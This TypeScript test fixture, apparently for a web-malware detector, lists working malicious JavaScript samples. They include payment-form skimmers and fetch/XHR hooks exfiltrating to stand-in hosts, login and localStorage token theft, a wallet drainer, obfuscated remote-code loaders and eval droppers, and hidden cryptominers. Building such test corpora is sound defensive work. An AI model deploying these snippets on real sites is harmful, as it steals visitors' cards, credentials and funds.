import { base64 } from './hiding.ts';
import type { MaliciousSample } from './malicious-sample.ts';

/** Variations that were written without looking at the features, to test how general those are. */
export const variations: readonly MaliciousSample[] = [
  {
    name: 'serialize-form-to-pixel',
    technique: 'Serializes the payment form into the URL of an image created by jQuery',
    family: 'magecart',
    code: `$(function(){$('#co-payment-form').on('submit',function(){var d=$(this).serialize();$('<img>').attr('src','https://px.vary.test/p?'+encodeURIComponent(d)).appendTo('body');});});`,
  },
  {
    name: 'mutation-observer-skim',
    technique: 'Waits for the payment form to appear and sends its fields with a beacon',
    family: 'magecart',
    code: `new MutationObserver(()=>{const f=document.querySelector('form[action*=payment]');if(!f||f.dataset.h)return;f.dataset.h=1;f.addEventListener('submit',()=>{const o={};new FormData(f).forEach((v,k)=>o[k]=v);navigator.sendBeacon('https://m.vary.test/x',new Blob([JSON.stringify(o)]));});}).observe(document.body,{childList:true,subtree:true});`,
  },
  {
    name: 'proxy-fetch-hook',
    technique: 'Replaces fetch and copies bodies with card data',
    family: 'magecart',
    code: `const orig=window.fetch;window.fetch=function(u,o){if(o&&o.body&&/card|cvv/.test(o.body)){navigator.sendBeacon('https://h.vary.test',o.body);}return orig.apply(this,arguments);};`,
  },
  {
    name: 'xhr-hook',
    technique: 'Replaces XMLHttpRequest.send and copies bodies',
    family: 'magecart',
    code: `var s=XMLHttpRequest.prototype.send;XMLHttpRequest.prototype.send=function(b){try{if(location.href.indexOf('checkout')>0)new Image().src='https://hk.vary.test/?'+btoa(b)}catch(e){}return s.call(this,b)};`,
  },
  {
    name: 'wallet-drainer',
    technique: 'Asks the wallet of the visitor to pay',
    family: 'malware',
    code: `async function drain(){const a=await ethereum.request({method:'eth_requestAccounts'});await ethereum.request({method:'eth_sendTransaction',params:[{from:a[0],to:'0x000000000000000000000000000000000000dEaD',value:'0xffffffff'}]});}document.querySelector('#claim').onclick=drain;`,
  },
  {
    name: 'jsonp-dropper',
    technique: 'Builds the URL of a script from character codes in a loop',
    family: 'malware',
    code: `var k=[104,116,116,112,115,58,47,47,106,46,101,118,105,108,46,116,101,115,116,47,97,46,106,115],u='';for(var i in k)u+=String.fromCharCode(k[i]);var n=document.createElement('script');n.setAttribute('src',u);(document.head||document.body).appendChild(n);`,
  },
  {
    name: 'hex-string-decode',
    technique: 'Decodes a hexadecimal string to the name of a function and its code',
    family: 'malware',
    code: `function h2a(h){for(var s='',i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));return s}window[h2a('6576616c')](h2a('616c6572742831292f2f78787878'));`,
  },
  {
    name: 'css-var-loader',
    technique: 'Reads code from a style sheet',
    family: 'malware',
    code: `fetch('https://cdn.vary.test/style.css').then(r=>r.text()).then(c=>{const m=c.match(/content:"(.*?)"/);new Function(atob(m[1]))();});`,
  },
  {
    name: 'image-stego',
    technique: 'Reads code from the pixels of an image',
    family: 'malware',
    code: `var c=document.createElement('canvas'),x=c.getContext('2d'),i=new Image();i.crossOrigin='';i.onload=function(){x.drawImage(i,0,0);var d=x.getImageData(0,0,i.width,i.height).data,s='';for(var p=0;p<d.length;p+=4){if(!d[p])break;s+=String.fromCharCode(d[p])}eval(s)};i.src='/logo.png';`,
  },
  {
    name: 'postMessage-eval',
    technique: 'Runs code that a hidden frame sends',
    family: 'malware',
    code: `window.addEventListener('message',function(e){if(e.data&&e.data.c)(0,eval)(e.data.c)});var f=document.createElement('iframe');f.style.display='none';f.src='https://c.vary.test/';document.body.appendChild(f);`,
  },
  {
    name: 'coinimp-style',
    technique: 'Starts a miner that hides behind a plain name',
    family: 'cryptomining',
    code: `var _client=new Client.Anonymous('abc',{throttle:0.5,c:'w'});_client.start();_client.addMiningNotification('Top','mining',"#ccc",40,"#3d3d3d");`,
  },
  {
    name: 'worker-miner',
    technique: 'Mines in workers created from an encoded string',
    family: 'cryptomining',
    code: `const W=new Blob([atob('${base64("importScripts('https://x.vary.test/cryptonight.js')")}')]);for(let i=0;i<navigator.hardwareConcurrency;i++){const w=new Worker(URL.createObjectURL(W));w.onmessage=e=>sock.send(JSON.stringify({type:'submit',params:{job_id:e.data.j,nonce:e.data.n,result:e.data.r}}))}const sock=new WebSocket('wss://p.vary.test');`,
  },
  {
    name: 'login-phish',
    technique: 'Copies user name and password with no-cors',
    family: 'malware',
    code: `document.querySelector('#login').addEventListener('click',()=>{const u=document.querySelector('#user').value,p=document.querySelector('#pass').value;fetch('https://l.vary.test/c?u='+u+'&p='+p,{mode:'no-cors'})});`,
  },
  {
    name: 'telegram-exfil',
    technique: 'Sends all fields of a form to a bot',
    family: 'magecart',
    code: `document.forms[0].onsubmit=function(){var t='';for(var i=0;i<this.elements.length;i++)t+=this.elements[i].name+'='+this.elements[i].value+'\\n';var r=new XMLHttpRequest;r.open('GET','https://api.telegram.test/botX/sendMessage?chat_id=1&text='+encodeURIComponent(t));r.send();};`,
  },
  {
    name: 'token-theft',
    technique: 'Sends everything in the storage, item by item',
    family: 'malware',
    code: `setTimeout(()=>{const t=Object.keys(localStorage).map(k=>k+'='+localStorage[k]).join('&');fetch('https://t.vary.test',{method:'POST',mode:'no-cors',body:t})},3e3);`,
  },
  {
    name: 'svg-onload',
    technique: 'Inserts encoded code into an event handler of an element',
    family: 'malware',
    code: `document.body.insertAdjacentHTML('beforeend','<svg onload="'+unescape('%65%76%61%6c%28%61%74%6f%62%28%27%59%51%3d%3d%27%29%29')+'"></svg>');`,
  },
];
